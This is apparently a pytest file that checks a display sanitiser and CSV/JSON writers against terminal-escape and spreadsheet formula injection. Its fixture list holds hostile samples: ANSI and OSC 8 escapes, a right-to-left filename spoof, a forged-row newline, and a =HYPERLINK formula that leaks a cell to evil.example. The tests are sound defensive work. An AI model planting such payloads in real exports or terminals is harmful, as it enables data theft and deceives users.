"""The display sanitiser and the CSV writers (issue 21.1, 21.6): exact cases, no simulator needed."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, date, datetime
from decimal import Decimal

import pyarrow as pa

from usage_lake.reporting.formats import to_csv, write_batches
from usage_lake.sanitize import DISPLAY_LENGTH, csv_cell, display

HOSTILE = ["\x1b[2Jclear", "\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07", "bel\x07", "nul\x00", "non\ufffe\uffff",
           "invoice\u202egnp.exe", "iso\u2066late\u2069", "zero\u200bwidth", "row\nFAKE ROW $0.00", "del\x7f", "c1\x9b31m",
           "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "+1", "-2+3", "@SUM(1)", "\tx", "\rx", "plain", "naïve café"]


def test_display_escapes_every_unsafe_character_visibly():
    assert display("\x1b[2Jclear") == "\\x1b[2Jclear"
    assert display("invoice\u202egnp.exe") == "invoice\\u202egnp.exe"
    assert display("row\nFAKE ROW") == "row\\x0aFAKE ROW"
    assert display("non\ufffe\uffff") == "non\\ufffe\\uffff"
    assert display("nul\x00") == "nul\\x00" and display("c1\x9b") == "c1\\x9b"
    assert display("naïve café") == "naïve café" and display("plain") == "plain"
    for name in HOSTILE:
        assert display(name).isprintable()


def test_display_cuts_long_names_cheaply():
    began = time.perf_counter()
    cut = display("k" * 1_000_000)
    assert time.perf_counter() - began < 0.05
    assert cut == "k" * (DISPLAY_LENGTH - 1) + "…" and len(display("\x1b" * 100)) == DISPLAY_LENGTH
    assert display("k" * 1000, None) == "k" * 1000


def test_csv_cells_that_would_be_formulas_get_a_quote_numbers_do_not():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@x") == "'@x" and csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell("-5") == "'-5"  # text that looks like a number is text from the API: neutralised
    assert csv_cell(-5) == -5 and csv_cell(Decimal("-1.5")) == Decimal("-1.5") and csv_cell("ok") == "ok"
    assert csv_cell("=1+1", raw=True) == "=1+1"


def _table() -> pa.Table:
    n = len(HOSTILE)
    return pa.table({
        "name": HOSTILE,
        "usd": pa.array([Decimal("-1.5000"), Decimal("0"), *[Decimal(i) / 8 for i in range(n - 2)]], pa.decimal128(20, 4)),
        "count": pa.array([-5, *range(n - 1)], pa.int64()),
        "at": pa.array([datetime(2026, 11, 20, 0, 0, i, 1000 * i, tzinfo=UTC) for i in range(n)], pa.timestamp("ms", tz="UTC")),
        "day": pa.array([date(2026, 11, 20)] * n),
        "flag": pa.array([i % 2 == 0 for i in range(n)]),
    })


def test_every_csv_writer_gives_the_same_cells():
    """The streamed writer (Arrow compute, batch by batch) and the view writer (csv module) agree cell for cell."""
    table = _table()
    for raw in (False, True):
        out = io.BytesIO()
        assert write_batches(pa.RecordBatchReader.from_batches(table.schema, table.to_batches(max_chunksize=7)), "csv", out,
                             raw_csv=raw) == table.num_rows
        streamed = list(csv.reader(io.StringIO(out.getvalue().decode())))
        viewed = list(csv.reader(io.StringIO(to_csv(table, raw=raw))))
        assert streamed == viewed and len(streamed) == table.num_rows + 1
    neutral = list(csv.reader(io.StringIO(to_csv(table))))
    assert [row[0] for row in neutral[1:] if row[0][:1] in "=+-@\t\r"] == []
    assert neutral[1][1:3] == ["-1.5", "-5"] and neutral[1][3] == "2026-11-20T00:00:00Z" and neutral[2][3] == "2026-11-20T00:00:01.001Z"
    assert neutral[9][0] == "row\nFAKE ROW $0.00"  # quoted: one row, the newline kept (the spreadsheet shows it in the cell)


def test_streamed_json_keeps_exact_strings_and_money_as_strings():
    table = _table()
    out = io.BytesIO()
    write_batches(pa.RecordBatchReader.from_batches(table.schema, table.to_batches(max_chunksize=5)), "json", out,
                  envelope={"view": "sql", "title": "t", "notes": []})
    document = json.loads(out.getvalue())
    assert [r["name"] for r in document["rows"]] == HOSTILE
    assert document["rows"][0]["usd"] == "-1.5" and document["rows"][0]["count"] == -5
